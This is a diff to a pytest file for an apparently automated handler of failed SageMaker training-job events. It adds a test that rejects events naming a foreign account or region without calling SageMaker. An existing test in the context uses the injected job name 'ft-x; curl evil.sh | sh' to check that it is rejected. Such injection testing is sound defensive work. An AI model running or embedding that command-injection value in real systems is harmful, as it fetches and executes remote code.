@@ -66,6 +66,7 @@ class Training:
 
 @pytest.fixture
 def world(medic):
+    medic.deps.account = "123456789012"  # the deploying account, as dependencies() reads it from the topic ARN
     return medic, Training()
 
 
@@ -252,3 +253,23 @@ def test_a_hostile_job_name_is_rejected(world, failed_event):
     medic, _ = world
     record = handle(medic, failure(failed_event, name="ft-x; curl evil.sh | sh"))
     assert (record["outcome"], record["trigger"]) == ("rejected", "job_state")
+
+
+@pytest.mark.parametrize(("arn", "named"), [
+    ("arn:aws:sagemaker:us-west-2:210987654321:training-job/ft-mistral-7b-0042", "account 210987654321"),
+    ("arn:aws:sagemaker:eu-west-1:123456789012:training-job/ft-mistral-7b-0042", "region eu-west-1"),
+])
+def test_a_training_job_event_naming_another_account_or_region_is_rejected_without_a_call(world, failed_event,
+                                                                                           arn, named):
+    medic, training = world
+    training.job(JOB)
+    training.checkpoint_saved()
+    event = copy.deepcopy(failed_event)
+    event["detail"]["TrainingJobArn"] = arn
+    # Given Medic's SageMaker answers nothing: any call would fail the test
+    medic.deps.training.tags = medic.deps.training.describe = lambda *_: pytest.fail("called SageMaker")
+    record = handle(medic, event)
+    # Then the event is rejected naming the foreign account or region, nothing is created, nobody is paged
+    assert (record["outcome"], record["action"], record["fault"]) == ("rejected", "none", "invalid")
+    assert named in record["reason"]
+    assert training.names() == [JOB] and medic.pages() == []
